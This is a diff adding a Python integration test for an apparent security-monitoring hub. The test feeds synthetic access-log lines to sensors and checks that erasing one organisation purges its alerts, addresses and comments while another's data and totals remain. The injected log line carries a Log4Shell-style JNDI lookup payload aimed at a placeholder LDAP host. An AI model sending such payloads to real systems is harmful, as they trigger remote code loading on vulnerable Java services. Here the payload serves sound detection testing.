@@ -123,6 +123,67 @@ class Two:
                                 (n % 60, self.marks[org], n) for n in range(first, last + 1)])
 
 
+def attack(hub, org, sensor, sequence, mark, address):
+    """One line of an attack on a path that only @org has."""
+    line = {"v": 1, "format": "access", "source": "/var/log/web-%s-%s.log" % (mark, address), "position": 1,
+            "time": "2026-11-21T08:00:00Z", "has_zone": True, "time_text": "x", "raw": "x",
+            "fields": {"c-ip": address, "cs-method": "GET", "cs-uri": "/%s/?x=${jndi:ldap://x/a}" % mark,
+                       "sc-status": 200}}
+    content = json.dumps(line, separators=(",", ":")).encode() + b"\n"
+    equal(sensor.send(sensor.batch(content, sequence))[0], 200)
+    until("found: " + address, lambda: any(f["actor"] == address for f in findings(hub, org)))
+
+
+@case
+def nothing_of_its_logs_in_situations():
+    """Attacked paths tie alerts to situations: what only it had goes, also out of one that another is part of; so do words
+    about what was its alone. The other's stay, and sums over all."""
+    hub = Hub()
+    marks = {org: ("mark" + secrets.token_hex(8)) for org in ("acme", "rival")}
+    for number, (org, mark) in enumerate(marks.items()):
+        hub.org(org)
+        sensor = hub.stranger(org)
+        attack(hub, org, sensor, 1, mark, "192.0.2.9")
+        attack(hub, org, sensor, 2, mark, "198.51.100.%d" % (number + 1))
+
+    def shown():
+        return [json.loads(line) for line in hub.admin("situations", "list", "--json").out.splitlines()]
+
+    def sums():
+        day = json.loads(hub.admin("funnel", "--json").out)
+        return day["alerts"] == 4 and {key: value for key, value in day.items() if key != "situations"}
+
+    def held(mark):
+        return where(hub.data, mark.encode(), packed=False)
+    until("alerts of both", lambda: all("situations.db" in str(held(mark)) for mark in marks.values()))
+    one = until("a situation of both", lambda: [s for s in shown() if s["organisations"] == 2])[0]
+    equal(hub.admin("situations", "comment", str(one["number"]), "about both").code, 0)
+    days = until("all is counted", sums)
+    equal(hub.admin("org", "close", "acme").code, 0)
+    done = hub.admin("org", "erase", "acme", "--yes", "--json")
+    equal(done.code, 0, done)
+    equal(held(marks["acme"]), [])
+    assert held(marks["rival"]) and held("about both")
+    with contextlib.closing(sqlite3.connect("file:%s?mode=ro" % (hub.data / "situations.db"), uri=True)) as db:
+        names = [row[0] for row in db.execute("SELECT text FROM names")]
+        assert "acme" not in names and "rival" in names, names
+        equal(db.execute("SELECT count(*) FROM spans WHERE value='198.51.100.1'").fetchall(), [(0,)])
+        assert db.execute("SELECT count(*) FROM spans WHERE value='192.0.2.9'").fetchone()[0] > 0
+    equal(sums(), days, "sums over all stay")
+    # What comes later is tied as before.
+    equal(hub.stop(), 0)
+    hub.start()
+    sensor = hub.stranger("rival")
+    attack(hub, "rival", sensor, 1, marks["rival"], "192.0.2.9")
+    equal(hub.admin("org", "erase", "acme", "--yes").code, 0)
+    # What was its alone, with what people said of it.
+    equal(hub.admin("situations", "comment", str(shown()[0]["number"]), "about rival").code, 0)
+    equal(hub.admin("org", "close", "rival").code, 0)
+    equal(hub.admin("org", "erase", "rival", "--yes").code, 0)
+    equal(held(marks["rival"]) + held("about rival"), [])
+    hub.stop()
+
+
 @case
 def all_of_it_leaves_and_nothing_stays():
     two = Two()
